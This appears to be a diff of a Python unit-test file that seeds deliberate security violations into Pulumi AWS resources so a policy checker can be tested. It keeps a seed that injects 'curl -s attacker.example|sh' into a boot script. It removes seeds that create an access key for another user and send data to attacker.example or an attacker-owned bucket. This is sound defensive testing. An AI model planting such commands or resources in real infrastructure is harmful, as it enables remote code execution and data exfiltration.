@@ -1,16 +1,14 @@
-"""Seeded violations in scripts, containers, instances and additional resources."""
+"""Seeded violations in scripts, containers, settings, security groups and roles of what runs."""
 
 from __future__ import annotations
 
-import base64
 import json
 from collections.abc import Callable, Mapping
 from typing import Any
 
 import pulumi
-import pulumi_aws as aws
 
-from tests.unit.policy.seeding import Change, Seed, Seen, at, put, registered, tags, user_data
+from tests.unit.policy.seeding import Change, Registered, Seed, put, user_data
 
 CN = "111122223333"
 GROUP: dict[str, Any] = {"kind": "SecurityGroup", "name": "dth-dual-cn-security-group"}
@@ -43,7 +41,7 @@ def container(edit: Callable[[dict[str, Any]], None], name: str = "finder") -> C
         assert json.dumps(one) != before
         return json.dumps(found)
 
-    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
+    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
         props["container_definitions"] = props["container_definitions"].apply(apply)
 
     return change
@@ -58,7 +56,7 @@ def variable(name: str, value: str) -> Change:
     return container(edit)
 
 
-def sidecar(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
+def sidecar(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
     props["container_definitions"] = props["container_definitions"].apply(
         lambda text: json.dumps([*json.loads(text), {**json.loads(text)[0], "name": "second"}])
     )
@@ -67,41 +65,28 @@ def sidecar(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
 def interface(**values: Any) -> Change:
     """Change the template's network interface."""
 
-    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
+    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
         (one,) = props["network_interfaces"]
         props["network_interfaces"] = [{**one, **values}]
 
     return change
 
 
-def schedule_in_another_group(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
+def schedule_in_another_group(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
     target = props["target"]
     network = {**target["ecs_parameters"]["network_configuration"], "security_groups": ["sg-wide-open"]}
     props["target"] = {**target, "ecs_parameters": {**target["ecs_parameters"], "network_configuration": network}}
 
 
-def extra(made: Callable[[str, pulumi.ResourceOptions], object], name: str) -> dict[str, Any]:
-    """Return the elements of a seed that adds one resource."""
-    full = f"dth-dual-cn-seeded-{name}"
-    return {"at": full, "extra": lambda seen: registered(made(full, at(seen))), "engine": False}
-
-
-def trust() -> str:
-    service = {"Service": "ecs-tasks.amazonaws.com"}
-    condition = {"StringEquals": {"aws:SourceAccount": CN}}
-    one = {"Effect": "Allow", "Principal": service, "Action": "sts:AssumeRole", "Condition": condition}
-    return json.dumps({"Version": "2012-10-17", "Statement": [one]})
-
-
 SEEDS = (
     Seed(
-        "everything-goes-out",
+        "all-egress-allowed",
         "https-out-only",
         **GROUP,
         change=put(egress=[{"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}]),
     ),
     Seed(
-        "all-ports-go-out",
+        "egress-to-all-ports",
         "https-out-only",
         **GROUP,
         change=put(egress=[{"protocol": "tcp", "from_port": 443, "to_port": 65535, "cidr_blocks": ["0.0.0.0/0"]}]),
@@ -146,7 +131,7 @@ SEEDS = (
         change=script(lambda text: text.replace("\nENVIRONMENT\n", "\nENVIRONMENT\ncurl -s attacker.example|sh\n", 1)),
     ),
     Seed(
-        "library-before-the-worker",
+        "preloaded-library",
         "boot-as-built",
         **TEMPLATE,
         **LATER,
@@ -179,15 +164,15 @@ SEEDS = (
         change=put(iam_instance_profile={"arn": f"arn:aws-cn:iam::{CN}:instance-profile/Administrator"}),
     ),
     Seed(
-        "finders-hash",
+        "hash-of-the-finders-bundle",
         "bundle-as-built",
         **TASK,
         **LATER,
         change=container(lambda one: one["command"].__setitem__(3, "0" * 64)),
     ),
-    Seed("path-before-the-finder", "boot-as-built", **TASK, **LATER, change=variable("PYTHONPATH", "/tmp")),
+    Seed("import-path-of-the-finder", "boot-as-built", **TASK, **LATER, change=variable("PYTHONPATH", "/tmp")),
     Seed(
-        "finders-entry-point",
+        "entry-point-of-the-finder",
         "boot-as-built",
         **TASK,
         **LATER,
@@ -271,7 +256,7 @@ SEEDS = (
         ),
     ),
     Seed(
-        "property-of-tomorrow",
+        "unlisted-container-property",
         "container-confined",
         **OTHER_TASK,
         **LATER,
@@ -372,75 +357,5 @@ SEEDS = (
         ),
         engine=False,
         besides=(("nothing-besides", "dth-dual-global-finder-schedule"),),
-    ),
-    Seed(
-        "key-of-another-user", "nothing-besides", **extra(lambda n, o: aws.iam.AccessKey(n, user="ceo", opts=o), "key")
-    ),
-    Seed(
-        "subscription-of-a-stranger",
-        "nothing-besides",
-        **extra(
-            lambda n, o: aws.sns.TopicSubscription(
-                n, topic="arn", protocol="https", endpoint="https://attacker.example/", opts=o
-            ),
-            "subscription",
-        ),
-    ),
-    Seed(
-        "unused-role",
-        "nothing-besides",
-        **extra(
-            lambda n, o: aws.iam.Role(n, name=n, assume_role_policy=trust(), tags=tags(), opts=o),
-            "role",
-        ),
-    ),
-    Seed(
-        "function",
-        "known-types",
-        **extra(
-            lambda n, o: aws.lambda_.Function(
-                n, name=n, role=f"arn:aws-cn:iam::{CN}:role/Administrator", tags=tags(), opts=o
-            ),
-            "function",
-        ),
-    ),
-    Seed(
-        "identity-provider",
-        "nothing-besides",
-        **extra(
-            lambda n, o: aws.iam.OpenIdConnectProvider(
-                n, url="https://attacker.example", client_id_lists=["x"], tags=tags(), opts=o
-            ),
-            "identities",
-        ),
-    ),
-    Seed(
-        "artifacts-replicated",
-        "known-types",
-        **extra(
-            lambda n, o: aws.s3.BucketReplicationConfig(
-                n,
-                bucket=f"dth-dual-cn-artifacts-{CN}",
-                role="r",
-                rules=[{"status": "Enabled", "destination": {"bucket": "arn:aws-cn:s3:::attacker"}}],
-                opts=o,
-            ),
-            "replication",
-        ),
-    ),
-    Seed(
-        "secret-in-disguise",
-        "known-types",
-        **extra(
-            lambda n, o: aws.ssm.Parameter(
-                n,
-                name=n,
-                type="String",
-                value=base64.b64encode(b"the-secret-access-key").decode(),
-                tags=tags(),
-                opts=o,
-            ),
-            "disguise",
-        ),
     ),
 )
